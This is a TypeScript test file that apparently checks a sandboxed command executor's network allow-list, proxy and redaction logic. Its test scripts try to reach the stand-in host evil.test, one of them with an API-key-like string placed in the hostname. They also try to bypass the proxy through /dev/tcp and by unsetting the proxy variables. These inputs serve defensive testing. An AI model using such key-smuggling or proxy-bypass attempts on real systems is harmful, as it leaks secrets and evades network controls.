import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { NetworkDecision } from "../sandbox/network/dial.ts";
import { createPlace, findProcesses, TEST_LIMITS, type TestPlace } from "../sandbox/testing.ts";
import { createTestLevel, testLevels } from "../sandbox/testing-levels.ts";
import { createCommandExecutor } from "./command.ts";
import { createOrder, run } from "./testing.ts";
import type { Executor, ExecutorEvent } from "./types.ts";

for (const { level, isHere, title } of testLevels) {
  describe.skipIf(!isHere)(`an attempt with a list of hosts at level ${title}`, () => {
    let place: TestPlace;
    let executor: Executor;
    let upstream: Server;
    let port: number;
    beforeEach(async () => {
      place = createPlace();
      executor = createCommandExecutor({
        sandbox: createTestLevel(level, place),
        toolchains: { mounts: [], path: "/usr/local/bin:/usr/bin:/bin", env: {} },
        node: process.execPath,
        limits: TEST_LIMITS,
      });
      upstream = createServer((_, response) => response.end("from the listed host"));
      await new Promise<void>((resolve) => upstream.listen(0, "127.0.0.1", resolve));
      port = (upstream.address() as AddressInfo).port;
    });
    afterEach(() => {
      upstream.closeAllConnections();
      upstream.close();
      place.remove();
    });

    const runScript = (lines: readonly string[], allow: readonly string[]) =>
      run(executor, createOrder(place, { script: lines.join("\n"), network: { allow } }));
    const listDecisions = (events: readonly ExecutorEvent[]): NetworkDecision[] =>
      events.flatMap((event) => (event.kind === "network" ? [event.decision] : []));
    /** Asks for a page as any program does that takes its proxy from the environment. */
    const fetchPage = (url: string) =>
      `NO_PROXY= no_proxy= '${process.execPath}' -e "fetch('${url}').then(async (reply) => console.log(reply.status, (await reply.text()).trim()), (error) => console.log('failed:', String(error.cause?.message ?? error)))"`;

    it("reaches those, and no other, and each is told", async () => {
      const { events, lines } = await runScript(
        [
          fetchPage(`http://127.0.0.1:${port}/`),
          fetchPage("http://evil.test/"),
          fetchPage("http://evil.test/more"),
        ],
        [`127.0.0.1:${port}`],
      );
      expect(lines[0]).toBe("200 from the listed host");
      expect(lines[1]).toMatch(/^failed: /);
      expect(listDecisions(events)).toEqual([
        { host: "127.0.0.1", port, isAllowed: true, reason: null },
        { host: "evil.test", port: 80, isAllowed: false, reason: "it is not in the list of allowed hosts" },
      ]);
      expect(events.at(-2)).toEqual({ kind: "refused", hosts: [{ host: "evil.test", port: 80, count: 2 }] });
      expect(events.at(-1)).toMatchObject({ kind: "ended", result: { exitCode: 0 } });
    });

    it("keeps what looks like a key out of the names that it tells", async () => {
      const key = `sk-ant-api03-${"a1B2".repeat(10)}`;
      const { events } = await runScript([fetchPage(`http://${key}.evil.test/`)], ["good.test"]);
      const told = events.filter(({ kind }) => kind === "network" || kind === "refused");
      expect(told).toHaveLength(2);
      expect(JSON.stringify(told)).not.toContain("a1b2a1b2");
      expect(JSON.stringify(told)).not.toContain("a1B2a1B2");
    });

    it.runIf(level !== "process")(
      "has no other way to the machine's ports, nor by the proxy to those that are not listed",
      async () => {
        const direct = `(: > /dev/tcp/127.0.0.1/${port}) 2> /dev/null && echo reached || echo refused`;
        const { events, lines } = await runScript(
          [
            direct,
            "unset HTTP_PROXY http_proxy",
            direct,
            `export http_proxy=$HTTPS_PROXY`,
            fetchPage(`http://localhost:${port}/`),
          ],
          ["good.test"],
        );
        expect(lines.slice(0, 2)).toEqual(["refused", "refused"]);
        expect(lines[2]).toMatch(/^failed: /);
        expect(listDecisions(events)).toMatchObject([{ host: "localhost", port, isAllowed: false }]);
      },
    );

    it("reaches a listed port of the machine as its own, without the proxy", async () => {
      const page = fetchPage(`http://localhost:${port}/`).replace("NO_PROXY= no_proxy= ", "");
      const { events, lines } = await runScript([page], [`localhost:${port}`, "[::1]:80", "localhost:80"]);
      expect(lines).toEqual(["200 from the listed host"]);
      const told = level === "process" ? [] : [{ host: "localhost", port, isAllowed: true, reason: null }];
      expect(listDecisions(events)).toEqual(told);
    });

    it("keeps its own exit code, arguments, input and variables", async () => {
      const script = [
        'echo "$0 $# [$(cat)] $(printf %q "$IFS") $(set | grep -c ^osqr_line || true) $HTTPS_PROXY $CI"',
        'yes | head -n 1 || echo "exit $?"',
        "exit 7",
      ];
      const { events, lines } = await runScript(script, []);
      expect(lines[0]).toMatch(/run\.sh 0 \[\] \$' \\t\\n' 0 http:\/\/127\.0\.0\.1:\d+ true$/);
      // A writer whose reader is gone is ended by the signal, as everywhere: the relay's runtime ignores it.
      expect(lines.slice(1)).toEqual(["y", "exit 141"]);
      expect(events.at(-1)).toMatchObject({ kind: "ended", result: { exitCode: 7 } });
    });

    it("gets the signals itself, and may use the network while it tidies up; nothing is left", async () => {
      const nap = `sleep 1000.${process.pid}${Math.floor(performance.now() * 1000)}`;
      const script = [
        `trap '${fetchPage(`http://127.0.0.1:${port}/bye`).replaceAll("'", `'"'"'`)}; exit 5' TERM`,
        `echo ready; ${nap} & wait $!`,
      ];
      const order = createOrder(place, {
        script: script.join("\n"),
        network: { allow: [`127.0.0.1:${port}`] },
      });
      const { events, lines } = await run(executor, order, async (session, event) => {
        if (event.kind === "output" && event.line === "ready") await session.cancel("cancel");
      });
      expect(lines).toContain("200 from the listed host");
      expect(events.at(-1)).toMatchObject({ kind: "ended", result: { exitCode: 5, isCanceled: true } });
      expect(findProcesses(nap)).toEqual([]);
      expect(findProcesses(`${order.folder}/bin/osqr-relay.mjs`)).toEqual([]);
    });

    it("waits for no relay when it waits for its children", async () => {
      const { lines } = await runScript(
        ["true & wait", "ps -o comm= --ppid $$ 2>/dev/null | grep -c node || true"],
        [],
      );
      expect(lines).toEqual(["0"]);
    });
  });
}
